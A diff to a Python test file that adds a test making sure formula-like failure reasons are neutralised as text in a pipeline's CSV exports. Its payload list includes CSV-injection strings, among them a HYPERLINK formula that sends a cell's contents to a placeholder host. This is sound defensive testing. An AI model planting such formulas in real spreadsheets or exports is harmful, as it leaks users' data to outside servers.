@@ -8,7 +8,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from conftest import Command, assert_refused, everything_in, without_slurm
+from conftest import Command, assert_refused, everything_in, run_command, without_slurm
 from factories import make_experiment, make_record, make_spec, plant_proof
 
 from pipeline.schema import Environment, Gpu
@@ -243,3 +243,24 @@ def test_a_point_that_a_manifest_names_twice_counts_once(pipeline: Command, tmp_
     experiment.manifest.write_text(json.dumps(manifest))
     tables = json.loads(pipeline("collect", tmp_path, "--format", "json").stdout)["experiments"]["x"]
     assert (tables["coverage"]["expected"], tables["Q1"][0]["n"]) == (1, 1)
+
+
+FORMULAS = ('=HYPERLINK("http://host/"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "x\r=1+1\r\n=2")
+
+
+@pytest.mark.parametrize("reason", FORMULAS)
+def test_a_reason_that_a_spreadsheet_would_run_as_a_formula_is_text_in_the_csv_files_alone(
+    tmp_path: Path, reason: str
+) -> None:
+    """A reason is what a rank printed, or what another's record says."""
+    found = make_record(status="oom", reason=reason)
+    diverged = make_record(make_spec(num_samples=256), [1.0, 1.0], loss=-0.5)
+    experiment = make_experiment(tmp_path / "x", found, diverged)
+    assert run_command("collect", tmp_path / "x").returncode == 0
+    with (experiment.folder / "oom.csv").open(newline="") as file:
+        (row,) = csv.DictReader(file)
+    shown = reason.replace("\r\n", "\n").replace("\r", "\n")  # else what follows one is a row of its own
+    assert row["reason"] == (shown if reason.startswith("x") else f"'{shown}")
+    assert json.loads((experiment.folder / "tables.json").read_text())["oom"][0]["reason"] == reason
+    with (experiment.folder / "q4.csv").open(newline="") as file:
+        assert {row["loss"] for row in csv.DictReader(file)} == {"-0.5"}, "a number is no text"
